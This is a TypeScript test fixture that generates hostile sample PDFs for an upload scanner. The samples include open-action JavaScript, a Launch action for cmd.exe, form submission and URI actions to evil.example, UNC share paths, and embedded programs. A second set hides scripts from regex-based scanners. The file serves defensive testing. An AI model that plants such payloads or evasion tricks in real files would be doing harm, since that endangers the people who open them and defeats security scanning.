import { deflateSync } from 'node:zlib'

import { passiveFile, program, rejectedFile, type HostileFile } from './hostile-file.fixture.js'
import { aPackedPdf } from './packed-pdf.fixture.js'
import { aPdf, packedObjects, pdfStream } from './sample-files.fixture.js'

type PdfObjects = Parameters<typeof aPdf>[0]

const openScript = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'
const latin = (text: string) => Buffer.from(text, 'latin1')
const pdf = (what: string, objects: PdfObjects) => passiveFile(`a PDF ${what}`, 'cv.pdf', aPdf(objects))

/** PDFs with active content, or with references to other resources. */
export function activePdfs(): HostileFile[] {
  return [
    pdf('that runs a script when it is opened', { catalog: openScript }),
    pdf('with a script under a short name', { objects: ['<< /JS (x) >>'] }),
    pdf('whose names are escaped', { catalog: '/Names << /J#61vaScript 5 0 R >>' }),
    pdf('that starts a program', { catalog: '/A << /S /Launch /F (cmd.exe) >>' }),
    pdf('with a file in it', { objects: [pdfStream('/Type /EmbeddedFile', deflateSync(program))] }),
    pdf('that acts on events', { catalog: '/AA << /WC 5 0 R >>' }),
    pdf('that sends a form', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
    pdf('with an XFA form', { catalog: '/AcroForm << /XFA 5 0 R >>' }),
    pdf('with a form', { catalog: '/AcroForm << /Fields [] /NeedAppearances true >>' }),
    pdf('that opens an address', { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
    pdf('that opens a share of another machine', { catalog: '/OpenAction << /S /URI /URI (\\\\\\\\evil\\\\x) >>' }),
    pdf('whose stream lies in another file', { objects: [pdfStream('/F (//evil/share/x)', latin('x'), '')] }),
    pdf('that presses a button of the reader', { catalog: '/OpenAction << /S /Named /N /Print >>' }),
    pdf('with a scene in three dimensions', {
      objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 6 0 R', latin('U3D\0'), '')],
    }),
    pdf('that plays a film', { objects: ['<< /Subtype /RichMedia /RichMediaContent << >> >>'] }),
    pdf('that goes to another document', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>' }),
    pdf('with a packed script', { objects: [packedObjects('<< /S /JavaScript /JS (x) >>')] }),
    pdf('with a packed and escaped script', { objects: [packedObjects('<< /S /J#61vaScript >>')] }),
    pdf('with objects packed in an unusual way', {
      objects: [packedObjects('<< >>', '/Filter [/ASCII85Decode /FlateDecode]')],
    }),
    pdf('with a script inside what is called a stream', {
      objects: [pdfStream('', latin('<< /S /JavaScript >>'), '')],
    }),
    rejectedFile('a PDF that is encrypted', 'cv.pdf', encryptedPdf(), 'protectedPdf', 'damaged'),
  ]
}

/**
 * Returns PDFs with scripts in a compressed catalogue, hidden from scanners that search by regular expression instead
 * of parsing (H2).
 */
export function hiddenScripts(): HostileFile[] {
  const hidden = (what: string, oddities: Parameters<typeof aPackedPdf>[0]) =>
    passiveFile(`a PDF whose script is hidden by ${what}`, 'cv.pdf', aPackedPdf({ ...oddities, catalog: openScript }))
  return [
    hidden('a packed catalogue', {}),
    hidden('the word obj in a string', { dictionary: '/X ( obj)' }),
    hidden('4,300 spaces', { dictionary: ' '.repeat(4300) }),
    hidden('a comment that looks like a stream', { before: '%stream\n' }),
    hidden('a space behind the word stream', { begin: 'stream \n' }),
    hidden('the word obj in a comment', { dictionary: '% obj\n' }),
  ]
}

/** Its pages cannot be read without a password; revision 3, 128 bits. */
function encryptedPdf(): Buffer {
  const key = '0'.repeat(64)
  const dictionary = `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${key}> /U <${key}> >>`
  return aPdf({
    objects: [dictionary],
    trailer: '/Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
  })
}
